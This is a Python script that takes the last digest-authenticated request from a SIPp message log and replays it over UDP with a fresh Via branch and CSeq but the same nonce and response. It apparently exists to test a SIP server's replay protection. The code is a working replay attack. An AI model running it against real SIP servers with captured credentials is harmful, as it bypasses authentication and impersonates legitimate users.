#!/usr/bin/env python3
"""Replays the last authenticated request a real client sent, as an attacker who captured it would.

Usage: replay.py SIPP_MESSAGE_LOG HOST PORT

Takes from SIPp's -trace_msg log the last sent request carrying Authorization or
Proxy-Authorization, gives it a new Via branch and a higher CSeq (so that it is a new transaction,
not a retransmission the server would simply answer again) and sends it over UDP, unchanged
otherwise: same nonce, nc, cnonce and response. Prints the status line of the reply (or
"no reply" after 5 s).
"""
import random
import re
import socket
import sys

log_path, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
text = open(log_path, "rb").read().decode("utf-8", "replace")
blocks = re.split(r"\n-{10,}[^\n]*\n", text)
sent = [b for b in blocks if "message sent" in b.split("\n", 1)[0] and re.search(r"^(Proxy-)?Authorization:", b, re.M)]
if not sent:
    sys.exit("no authenticated request in " + log_path)
block = sent[-1]
start = re.search(r"^[A-Z]+ sip:", block, re.M).start()
message = block[start:].replace("\r\n", "\n")
head = message.split("\n\n", 1)[0].strip("\n")
head = re.sub(r"branch=[^;\s]+", "branch=z9hG4bK-replay-%08x" % random.getrandbits(32), head, count=1)
head = re.sub(r"^CSeq: *(\d+)", lambda m: "CSeq: %d" % (int(m.group(1)) + 10), head, count=1, flags=re.M)
head = re.sub(r"^Content-Length:.*$", "Content-Length: 0", head, flags=re.M)
payload = (head.replace("\n", "\r\n") + "\r\n\r\n").encode()
family = socket.AF_INET6 if ":" in host else socket.AF_INET
with socket.socket(family, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    s.sendto(payload, (host, port))
    try:
        reply = s.recvfrom(65535)[0].decode("utf-8", "replace")
    except socket.timeout:
        print("no reply")
        sys.exit(0)
print(reply.split("\r\n", 1)[0])
